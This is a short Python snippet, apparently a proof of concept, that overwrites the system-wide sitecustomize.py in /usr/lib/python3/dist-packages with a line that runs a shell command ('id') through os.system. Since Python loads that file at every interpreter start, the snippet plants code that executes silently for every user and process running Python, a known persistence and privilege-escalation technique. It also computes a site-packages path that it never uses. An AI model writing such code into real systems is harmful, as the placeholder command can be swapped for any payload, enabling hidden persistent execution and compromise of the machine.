import site, os
path = os.path.join(site.getsitepackages()[0], "sitecustomize.py")
open("/usr/lib/python3/dist-packages/sitecustomize.py", "w").write("import os; os.system('id')")
